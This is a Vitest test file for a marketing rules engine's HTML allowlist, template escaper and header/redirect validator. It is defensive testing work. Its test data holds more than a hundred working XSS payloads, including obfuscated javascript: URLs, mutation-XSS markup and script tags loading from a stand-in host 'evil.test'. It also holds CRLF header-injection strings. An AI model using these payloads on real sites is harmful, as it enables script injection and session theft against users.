/**
 * What marketers publish cannot run script: a corpus of XSS vectors, by the categories of the
 * public cheat sheets, every one refused with a reason at the place it stands in the document;
 * realistic content accepted; templates that escape for their context; headers and redirects
 * that cannot be turned against the page.
 */
import { describe, expect, it } from "vitest";
import { checkHtml, isSafeUrl } from "../../../shared/html/markup.ts";
import { compileTemplate, renderTemplate } from "../../../shared/html/template.ts";
import { RulesDocument, type RulesDocumentInput } from "../../../shared/rules/document.ts";
import { checkDocumentMarkup } from "../../../shared/rules/markup-checks.ts";

function documentWith(actions: Record<string, unknown>, page?: unknown): RulesDocumentInput {
  return {
    version: 1,
    slots: { hero: { selector: "#hero" } },
    models: { similar: { type: "itemToItem", related: {}, items: {} } },
    rules: [{ id: "r", actions, ...(page === undefined ? {} : { page }) }] as RulesDocumentInput["rules"],
  };
}

/** The problems a document has, as `pointer: message`. */
/** The schema's problems, then (for a document of the right shape) the parser's, as a publish checks them. */
function problems(document: unknown): { pointer: string; message: string }[] {
  const parsed = RulesDocument.safeParse(document);
  if (parsed.success)
    return checkDocumentMarkup(parsed.data).problems.map((problem) => ({
      pointer: `/${problem.path.join("/")}`,
      message: problem.message,
    }));
  return parsed.error.issues.map((issue) => ({ pointer: `/${issue.path.join("/")}`, message: issue.message }));
}

const HANDLER_TAGS = ["img", "div", "a", "p", "span", "details", "body", "video", "svg", "input", "button", "marquee", "h1", "table", "td"];
const HANDLER_SPELLINGS = [
  "onload=alert(1)",
  "oNlOaD=alert(1)",
  "ONERROR='alert(1)'",
  'onerror="alert(1)"',
  "onerror\x0c=alert(1)",
  "onmouseover =alert(1)",
  "onfocus=alert(1) autofocus tabindex=1",
  "onpointerenter=alert`1`",
  "ontoggle=alert(1) open",
  "onanimationstart=alert(1)",
  "onclick=&#97;lert(1)",
];

const SCRIPT_URLS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "jav&#x61;script:alert(1)",
  "&#106;avascript:alert(1)",
  "&#0000106avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "&#X6a&#X61&#X76&#X61script:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "javascript&#x3a;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  " \tjavascript:alert(1)",
  "&#14;javascript:alert(1)",
  "\x01javascript:alert(1)",
  "vbscript:msgbox(1)",
  "VBScript:msgbox(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:text/html,<script>alert(1)</script>",
  "d&#97;ta:text/html,x",
  "blob:https://shop.test/0b3c",
  "livescript:alert(1)",
];

const URL_PLACES = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<a href='${url}'>x</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="/ok.png 1x, ${url} 2x">`,
  (url: string) => `<picture><source srcset="${url}"><img src="/ok.png"></picture>`,
  (url: string) => `<blockquote cite="${url}">q</blockquote>`,
  (url: string) => `<a href="/ok" ping="${url}">x</a>`,
];

const OTHER_VECTORS = [
  // The issue's five.
  "<svg/onload=alert(1)>",
  "<details/open/ontoggle=alert(1)>",
  '<img src="x>" onerror=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="jav&#x61;script:alert(1)">x</a>',
  // Elements that run, load or take input.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<script/xss src=//evil.test/x.js></script>",
  "<iframe src=//evil.test></iframe>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.test/x.swf">',
  '<applet code="x"></applet>',
  '<portal src="//evil.test"></portal>',
  "<template><img src=x onerror=alert(1)></template>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  "<svg><script>alert(1)</script></svg>",
  "<noscript><img src=x></noscript>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<plaintext><img src=x>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<noframes><img src=x onerror=alert(1)></noframes>",
  "<title><img src=x onerror=alert(1)></title>",
  "<select><option>x</option></select>",
  "<input autofocus onfocus=alert(1)>",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<button type="submit">go</button>',
  '<button form="checkout" type="button">go</button>',
  "<video><source onerror=alert(1)></video>",
  '<video poster="javascript:alert(1)"></video>',
  "<audio src=x onerror=alert(1)></audio>",
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1) type=image>",
  "<keygen autofocus onfocus=alert(1)>",
  "<x-widget onclick=alert(1)></x-widget>",
  "<my-element></my-element>",
  "<image src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  // Styles, metadata and document-level elements.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<link rel="import" href="//evil.test/x.html">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<base href="//evil.test/">',
  // Comments, CDATA, processing instructions, doctype.
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!---><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  "<? foo ><img src=x onerror=alert(1)>",
  "<!DOCTYPE html><p>x</p>",
  "<!-- a note -->",
  // Mutation XSS shapes.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<p title="</p><img src=x onerror=alert(1)>">x</p><style></style>',
  "<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>",
  // Markup that is not closed, or that parses differently in different places.
  '<a href="/x',
  "<div title='",
  "<img src=x",
  "<img src=x onerror=alert(1)//",
  "<a href='/ok'>unclosed",
  "<p>one<p>two",
  "<div><span></div></span>",
  "<img src=`x` onerror=`alert(1)`>",
  "<img src=x o\u0000nerror=alert(1)>",
  "<img\u0000src=x onerror=alert(1)>",
  '<a href="/ok"title="x">x</a>',
  '<a href="/ok" href="javascript:alert(1)">x</a>',
  "<div/>",
  "<</div>script>alert(1)</script>",
  '<img src="x" alt=\'y\'"onerror=alert(1)>',
  "<a href=/ok onclick=alert(1)>x</a>",
  "<a href=javascript:alert(1)>x</a>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "</p><img src=x onerror=alert(1)>",
  `${"<b>".repeat(80)}x${"</b>".repeat(80)}`,
];

const VECTORS = [
  ...HANDLER_TAGS.flatMap((tag) => HANDLER_SPELLINGS.map((handler) => `<${tag} ${handler}>x</${tag}>`)),
  ...HANDLER_TAGS.map((tag) => `<${tag}/onload=alert(1)>x</${tag}>`),
  ...SCRIPT_URLS.flatMap((url) => URL_PLACES.map((place) => place(url))),
  ...OTHER_VECTORS,
];

const BENIGN = {
  hero: `<div class="hero hero--electronics" data-campaign="autumn" aria-label="Autumn sale">
  <h1>Up to <em>40%</em> off headphones</h1>
  <p lang="en" dir="ltr">Free delivery &amp; returns &mdash; only until <time datetime="2026-10-31">31 October</time>.</p>
  <a class="button" href="/c/electronics?utm_campaign=autumn&amp;utm_medium=hero" rel="nofollow" target="_blank">Shop now</a>
  <a href="https://shop.example/help#delivery" title="Delivery help">Delivery</a> · <a href="mailto:help@shop.example">Mail us</a> · <a href="tel:+49301234567">Call</a>
  <button type="button" class="dismiss" aria-controls="hero">Close</button>
</div>`,
  card: `<article class="card">
  <figure>
    <picture>
      <source srcset="/img/el-01.avif 1x, /img/el-01@2x.avif 2x" type="image/avif" media="(min-width: 40em)">
      <img src="/img/el-01.jpg" srcset="/img/el-01-400.jpg 400w, /img/el-01-800.jpg 800w" sizes="(max-width: 600px) 400px, 800px" alt="Noise-cancelling headphones" width="400" height="300" loading="lazy" decoding="async">
    </picture>
    <figcaption>Noise-cancelling headphones <small>by Acme</small></figcaption>
  </figure>
  <p><strong>€199.00</strong> <s>€249.00</s> <mark>Deal</mark></p>
  <ul><li>30 h battery</li><li>USB-C</li></ul>
</article>`,
  table: `<table class="sizes">
  <caption>Size guide</caption>
  <thead><tr><th scope="col">EU</th><th scope="col">UK</th></tr></thead>
  <tbody><tr><td>42</td><td>8</td></tr><tr><td colspan="2">Half sizes on request</td></tr></tbody>
</table>`,
  details:
    "<details><summary>Delivery</summary><p>2&ndash;3 days. <abbr title='Deutsche Post'>DP</abbr>, <code>SAVE10</code></p></details>",
  plain: "Only today: free delivery on all orders over 50 € — Tom & Jerry's favourite &lt;3",
  quote: '<blockquote cite="https://reviews.example/r/1"><p>Great!</p></blockquote><hr><br>',
};

describe("marketer HTML allowlist", () => {
  it(`refuses every one of ${VECTORS.length} XSS vectors, with a reason, at the action's pointer`, () => {
    expect(VECTORS.length).toBeGreaterThan(100);
    const accepted: string[] = [];
    for (const vector of VECTORS) {
      const found = problems(documentWith({ hero: { type: "setHtml", html: vector } }));
      const here = found.filter((problem) => problem.pointer === "/rules/0/actions/hero/html");
      if (here.length === 0 || here.some((problem) => problem.message.length < 10)) accepted.push(vector);
    }
    expect(accepted).toEqual([]);
  });

  it("refuses the vectors in every action that inserts HTML and in recommendation templates", () => {
    for (const type of ["setHtml", "replace", "before", "after", "prepend", "append"]) {
      for (const vector of OTHER_VECTORS.slice(0, 5)) {
        expect(problems(documentWith({ hero: { type, html: vector } })).map((problem) => problem.pointer)).toContain(
          "/rules/0/actions/hero/html",
        );
      }
    }
    for (const vector of OTHER_VECTORS.slice(0, 5)) {
      expect(
        problems(documentWith({ hero: { type: "recommendations", model: "similar", template: vector } })).map((problem) => problem.pointer),
      ).toContain("/rules/0/actions/hero/template");
    }
  });

  it("tells the marketer what is wrong", () => {
    expect(checkHtml("<svg/onload=alert(1)>")).toContain("<svg> is not allowed");
    expect(checkHtml('<img src="x>" onerror=alert(1)>')).toContain('event handler attribute "onerror" is not allowed');
    expect(checkHtml('<a href="jav&#x61;script:alert(1)">x</a>')).toContain("href must be a relative, http(s), mailto: or tel: URL");
    expect(checkHtml('<div style="color:red">x</div>')).toContain("the style attribute is not allowed (use a class)");
    expect(checkHtml("<p>one<p>two")).toContain("<p> is not closed; close every element with its end tag");
    expect(checkHtml('<a href="/x').join(" ")).toMatch(/malformed HTML \(eof-in-tag/);
  });

  it("accepts realistic content: a hero, a product card with picture and srcset, a table, details, text", () => {
    for (const [name, html] of Object.entries(BENIGN)) {
      expect([name, checkHtml(html)]).toEqual([name, []]);
      expect(problems(documentWith({ hero: { type: "setHtml", html } }))).toEqual([]);
    }
  });

  it("checks URLs after decoding entities and dropping what browsers ignore", () => {
    for (const url of SCRIPT_URLS) expect([url, isSafeUrl(url)]).toEqual([url, false]);
    for (const url of [
      "/c/electronics",
      "c/x",
      "../x",
      "?q=1",
      "#top",
      "https://a.example/x?y=1&amp;z=2",
      "HTTP://A.EXAMPLE",
      "mailto:a@b.example",
      "tel:+4930",
      "//cdn.example/x.png",
      "javascript-guide.html",
      "/x:y",
    ]) {
      expect([url, isSafeUrl(url)]).toEqual([url, true]);
    }
  });
});

describe("setAttribute", () => {
  const refused: [string, string][] = [
    ["onclick", "alert(1)"],
    ["OnMouseOver", "alert(1)"],
    ["onfocus", "x"],
    ["style", "background:url(javascript:alert(1))"],
    ["srcdoc", "<script>alert(1)</script>"],
    ["formaction", "/x"],
    ["form", "checkout"],
    ["type", "submit"],
    ["xlink:href", "/x"],
    ["autofocus", ""],
    ["contenteditable", "true"],
    ["is", "x-widget"],
    ...SCRIPT_URLS.flatMap((url): [string, string][] => [
      ["href", url],
      ["src", url],
      ["cite", url],
    ]),
    ["srcset", "/a.png 1x, javascript:alert(1) 2x"],
    ["ping", "javascript:alert(1)"],
  ];

  it(`refuses ${refused.length} handler, style, form and URL attributes, with a reason`, () => {
    const accepted = refused.filter(
      ([name, value]) => problems(documentWith({ hero: { type: "setAttribute", name, value } })).length === 0,
    );
    expect(accepted).toEqual([]);
  });

  it("points at the field that is wrong: the name when no value would do, else the value", () => {
    expect(problems(documentWith({ hero: { type: "setAttribute", name: "onclick", value: "x" } })).map(({ pointer }) => pointer)).toEqual([
      "/rules/0/actions/hero/name",
    ]);
    expect(
      problems(documentWith({ hero: { type: "setAttribute", name: "href", value: "jav&#x61;script:alert(1)" } })).map(
        ({ pointer }) => pointer,
      ),
    ).toEqual(["/rules/0/actions/hero/value"]);
  });

  it("accepts content attributes with safe values", () => {
    for (const [name, value] of [
      ["href", "/?from=logo"],
      ["href", "https://shop.example/sale?a=1&b=2"],
      ["title", 'Say "hello" & <wave>'],
      ["data-variant", "b"],
      ["aria-label", "Sale"],
      ["src", "/img/a.png"],
      ["alt", "A"],
    ]) {
      expect(problems(documentWith({ hero: { type: "setAttribute", name, value } }))).toEqual([]);
    }
  });
});

describe("recommendation templates", () => {
  const hostile = {
    id: '"><img src=x onerror=alert(1)>',
    name: "<img src=x onerror=alert(1)>'\"&",
    url: "javascript:alert(1)",
    price: "1.00",
    category: "' onmouseover='alert(1)",
  };

  it("escapes every placeholder for the context it stands in; unsafe URLs become #", () => {
    const compiled = compileTemplate(
      '<a class="card" href="{{url}}" data-id="{{id}}" title=\'{{category}}\'><img src="/img/{{id}}.jpg" alt="{{name}}"> {{name}} <span>{{price}}</span></a>',
    );
    if (!compiled.ok) throw new Error(compiled.error.join("; "));
    const html = renderTemplate(compiled.value, hostile);
    expect(html).toBe(
      '<a class="card" href="#" data-id="&#34;&#62;&#60;img src=x onerror=alert(1)&#62;" title=\'&#39; onmouseover=&#39;alert(1)\'><img src="/img/&#34;&#62;&#60;img src=x onerror=alert(1)&#62;.jpg" alt="&#60;img src=x onerror=alert(1)&#62;&#39;&#34;&#38;"> &#60;img src=x onerror=alert(1)&#62;&#39;&#34;&#38; <span>1.00</span></a>',
    );
    expect(checkHtml(html)).toEqual([]);
    // Values are escaped, so `&` in a value is text to the browser: only URLs dangerous as they are can reach it.
    for (const url of SCRIPT_URLS.filter((url) => !url.includes("&"))) {
      expect([url, renderTemplate(compiled.value, { ...hostile, url })]).toEqual([url, expect.stringContaining('href="#"')]);
    }
    expect(renderTemplate(compiled.value, { ...hostile, url: "jav&#x61;script:alert(1)" })).toContain(
      'href="jav&#38;#x61;script:alert(1)"',
    );
    expect(renderTemplate(compiled.value, { ...hostile, url: "/p/el-01?a=1&b=2" })).toContain('href="/p/el-01?a=1&#38;b=2"');
  });

  it("checks a URL attribute whole, with its literal prefix", () => {
    const compiled = compileTemplate('<a href="{{category}}:{{id}}">x</a><img srcset="{{url}} 1x, /b.png 2x">');
    if (!compiled.ok) throw new Error(compiled.error.join("; "));
    expect(renderTemplate(compiled.value, { ...hostile, category: "javascript", id: "alert(1)", url: "/a.png" })).toBe(
      '<a href="#">x</a><img srcset="/a.png 1x, /b.png 2x">',
    );
    expect(renderTemplate(compiled.value, { ...hostile, category: "/c", id: "1", url: "data:text/html,x" })).toBe(
      '<a href="/c:1">x</a><img srcset="#">',
    );
  });

  it("refuses placeholders where they cannot be escaped", () => {
    for (const template of [
      "<a href={{url}}>x</a>",
      "<a title={{name}}>x</a>",
      "<{{name}}>x</{{name}}>",
      '<a {{name}}="x">x</a>',
      "<a data-{{id}}='x'>x</a>",
      "<!-- {{name}} -->",
      "<a href='/x' {{name}}>x</a>",
      "<style>{{name}}</style>",
      "<script>var x = '{{name}}'</script>",
      '<div style="color: {{category}}">x</div>',
    ]) {
      const compiled = compileTemplate(template);
      expect([template, compiled.ok]).toEqual([template, false]);
    }
  });
});

describe("page headers and redirects", () => {
  const refusedNames = [
    "content-security-policy",
    "content-security-policy-report-only",
    "x-frame-options",
    "X-Frame-Options",
    "x-content-type-options",
    "strict-transport-security",
    "set-cookie",
    "cache-control",
    "vary",
    "x-xss-protection",
    "permissions-policy",
    "referrer-policy",
    "cross-origin-opener-policy",
    "cross-origin-embedder-policy",
    "cross-origin-resource-policy",
    "access-control-allow-origin",
    "location",
    "content-type",
    "content-length",
    "transfer-encoding",
    "x-robots-tag",
    "x-content-security-policy",
    "x-webkit-csp",
    "x-permitted-cross-domain-policies",
    "x-ua-compatible",
    "x-dns-prefetch-control",
    "link",
    "refresh",
    "clear-site-data",
  ];

  it(`refuses ${refusedNames.length} security, caching and framing headers with a reason`, () => {
    for (const name of refusedNames) {
      const found = problems(documentWith({}, { headers: { [name]: "x" } }));
      expect([name, found.length > 0 && found.every((problem) => problem.pointer.startsWith("/rules/0/page/headers"))]).toEqual([
        name,
        true,
      ]);
    }
    expect(problems(documentWith({}, { headers: { "x-campaign": "autumn", "x-experiment-variant": "b" } }))).toEqual([]);
  });

  it("refuses header values with control characters", () => {
    for (const value of ["a\r\nset-cookie: x=1", "a\nb", "a\u0000", "a\u007f", "\u0085", "é"]) {
      expect(problems(documentWith({}, { headers: { "x-campaign": value } })).length).toBeGreaterThan(0);
    }
  });

  it("refuses redirects with control characters, raw or encoded, and unsafe schemes", () => {
    const refused = [
      "/x\r\nset-cookie: a=1",
      "/x\nLocation: //evil.test",
      "/x\ty",
      "/x y",
      "/x\u0000",
      "/x\u0085",
      "/%0d%0aset-cookie:a=1",
      "/%0D%0A",
      "/a%09b",
      "/a%00",
      "/a%7f",
      "/é",
      "",
      ...SCRIPT_URLS,
    ];
    for (const to of refused) {
      const found = problems(documentWith({}, { redirect: { to } }));
      expect([to, found.some((problem) => problem.pointer === "/rules/0/page/redirect/to")]).toEqual([to, true]);
    }
    for (const to of ["/c/outdoor", "https://shop.example/sale?a=1&b=%20x", "/search?q=caf%C3%A9", "?x=1"]) {
      expect(problems(documentWith({}, { redirect: { to } }))).toEqual([]);
    }
  });
});

describe("link types", () => {
  it.each([
    '<a href="/x" target="_blank" rel="opener">x</a>',
    '<a href="/x" target="_blank" rel="OPENER">x</a>',
    '<a href="/x" target="_blank" rel="noreferrer opener">x</a>',
    '<a href="/x" target="_blank" rel="nofollow\topener">x</a>',
    '<a href="/x" target="_blank" rel="&#111;pener">x</a>',
    '<a href="/x" rel="stylesheet">x</a>',
    '<a href="/x" rel="prefetch">x</a>',
    '<a href="/x" rel="noopener x-made-up">x</a>',
  ])("refuses %s with a reason", (markup) => {
    expect(checkHtml(markup).some((problem) => /^rel ".+" is not allowed/.test(problem))).toBe(true);
  });

  it.each([
    '<a href="/x" target="_blank" rel="noopener noreferrer">x</a>',
    '<a href="/x" rel="nofollow sponsored">x</a>',
    '<a href="/x" rel="UGC  external">x</a>',
    '<a href="/x" rel="">x</a>',
    '<a href="/p/2" rel="next">x</a>',
  ])("accepts %s", (markup) => {
    expect(checkHtml(markup)).toEqual([]);
  });
});
